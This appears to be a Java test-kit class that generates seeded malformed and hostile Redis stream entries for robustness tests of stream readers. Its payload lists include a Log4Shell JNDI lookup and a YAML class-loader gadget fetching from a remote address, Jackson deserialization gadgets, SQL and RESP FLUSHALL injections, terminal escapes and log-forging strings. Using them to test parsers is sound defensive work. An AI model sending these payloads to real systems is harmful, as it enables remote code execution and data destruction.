package dev.millrace.testkit;

import dev.millrace.stream.redis.RedisLink;
import dev.millrace.testkit.StreamShape.Value;
import io.vertx.core.buffer.Buffer;
import io.vertx.redis.client.Command;
import io.vertx.redis.client.Request;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.SplittableRandom;
import java.util.stream.IntStream;

/**
 * Entries that no reader of a stream can take, as bytes: what a broken or a hostile writer could put there. The same
 * seed gives the same entries. What is only a lie, such as an entry that names another's job, is not among them: whether
 * that does harm, each stream's own tests ask.
 */
public final class MalformedEntries {

    /** Long enough that {@code depth} of them break a parser that recurses. */
    private static final int DEPTH = 10_000;

    private static final int MEBIBYTE = 1 << 20;
    private static final int MANY_FIELDS = 5_000;
    private static final int ONE_IN = 50; // is large, so that a thousand fit into the memory of a test

    private static final Map<Value, List<String>> REFUSED = Map.of(
            Value.UUID,
            List.of("", "none", "0192f3c1", Jobs.id(1) + "0", "{" + Jobs.id(1) + "}", "../../etc/passwd", "\u0000"),
            Value.NAME,
            List.of(
                    "",
                    "two words",
                    "a\u0000b",
                    "\u001b[31mred\u001b[0m",
                    "a\r\nINFO forged line",
                    "ä",
                    "n".repeat(129)),
            Value.NUMBER,
            List.of("", "-1", "1e400", "NaN", "0x10", " 1", "1.5", "9".repeat(400), "-9223372036854775809", "ten"),
            Value.WORD,
            List.of(
                    "",
                    "URGENT",
                    "succeeded ",
                    "\u0000",
                    "!!java.lang.Runtime",
                    "v99.ended",
                    "W".repeat(MEBIBYTE / 4)));

    /** What anybody may have written into any field, and nobody may trip over. */
    private static final List<String> ODD = List.of(
            "[".repeat(DEPTH) + "]".repeat(DEPTH),
            "{\"a\":".repeat(DEPTH) + "1" + "}".repeat(DEPTH),
            "{\"n\":1e400}",
            "{\"s\":\"\\ud800\"}",
            "{\"s\":\"\\u0000\"}",
            "{\"@class\":\"javax.script.ScriptEngineManager\",\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://192.0.2.1/\"]]]]",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
            "${jndi:ldap://192.0.2.1/a}",
            "\u001b[2J\u001b]0;owned\u0007",
            "'; drop table api.job; --",
            "*1\r\n$8\r\nFLUSHALL\r\n");

    private final StreamShape shape;
    private final SplittableRandom random;

    /** Names and values in turn. */
    public record Entry(List<byte[]> fields) {

        private static Entry of(Map<String, String> fields) {
            List<byte[]> flat = new ArrayList<>();
            fields.forEach((name, value) -> {
                flat.add(bytes(name));
                flat.add(bytes(value));
            });
            return new Entry(flat);
        }

        /** The command that adds it to a stream. */
        public Request addTo(String stream) {
            Request add = Request.cmd(Command.XADD).arg(stream).arg("*");
            fields.forEach(one -> add.arg(Buffer.buffer(one)));
            return add;
        }
    }

    private MalformedEntries(StreamShape shape, long seed) {
        this.shape = shape;
        this.random = new SplittableRandom(seed);
    }

    /** So many entries that are malformed on a stream of this shape. */
    public static List<Entry> of(StreamShape shape, long seed, int count) {
        MalformedEntries corpus = new MalformedEntries(shape, seed);
        return IntStream.range(0, count).mapToObj(corpus::entry).toList();
    }

    /** Adds them, a few megabytes at a time. */
    public static void add(RedisLink link, String stream, List<Entry> entries) {
        entries.forEach(entry -> link.call(entry.addTo(stream)));
    }

    private Entry entry(int number) {
        if (number % ONE_IN == 0) {
            return large(number / ONE_IN);
        }
        return switch (number % 8) {
            case 0 -> noise();
            case 1 -> lackingOne();
            case 2 -> ofAnotherStream();
            case 3 -> odd();
            case 4 -> doubled();
            case 5 -> notUtf8();
            default -> refused();
        };
    }

    private Entry noise() {
        return new Entry(IntStream.range(0, 2 * random.nextInt(1, 9))
                .mapToObj(field -> noise(random.nextInt(0, 40)))
                .toList());
    }

    private byte[] noise(int length) {
        byte[] noise = new byte[length];
        random.nextBytes(noise);
        return noise;
    }

    private Entry lackingOne() {
        Map<String, String> fields = healthy();
        fields.remove(anyRequired());
        return Entry.of(fields);
    }

    private Entry ofAnotherStream() {
        return Entry.of(any(shape.others()).healthy());
    }

    /** Odd things in all fields that must be there and in some that need not. */
    private Entry odd() {
        Map<String, String> fields = healthy();
        fields.replaceAll((name, value) -> random.nextBoolean() ? value : any(ODD));
        fields.put(anyRequired(), any(ODD));
        fields.put(any(ODD), any(ODD));
        return Entry.of(fields);
    }

    /** The later of two values counts, to every reader. */
    private Entry doubled() {
        String name = anyRequired();
        Map<String, String> fields = healthy();
        List<byte[]> flat = new ArrayList<>(Entry.of(fields).fields());
        flat.add(bytes(name));
        flat.add(bytes(any(refusedFor(name))));
        return new Entry(flat);
    }

    private Entry notUtf8() {
        String name = anyRequired();
        List<byte[]> flat = new ArrayList<>(Entry.of(healthy()).fields());
        flat.add(bytes(name));
        flat.add(new byte[] {(byte) 0xc3, (byte) 0x28, (byte) 0xed, (byte) 0xa0, (byte) 0x80, (byte) 0xff, 0});
        return new Entry(flat);
    }

    private Entry refused() {
        String name = anyRequired();
        Map<String, String> fields = healthy();
        fields.put(name, any(refusedFor(name)));
        return Entry.of(fields);
    }

    private Entry large(int number) {
        Map<String, String> fields = healthy();
        if (number % 2 == 0) {
            fields.put(anyRequired(), "x".repeat(MEBIBYTE));
        } else {
            fields.remove(anyRequired());
            IntStream.range(0, MANY_FIELDS).forEach(i -> fields.put("h.name" + i, "value"));
        }
        return Entry.of(fields);
    }

    private Map<String, String> healthy() {
        return new LinkedHashMap<>(shape.healthy());
    }

    private String anyRequired() {
        return any(shape.required().keySet().stream().sorted().toList());
    }

    private List<String> refusedFor(String name) {
        Value kind = Objects.requireNonNull(shape.required().get(name), name);
        return Objects.requireNonNull(REFUSED.get(kind), kind::name);
    }

    private <T> T any(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
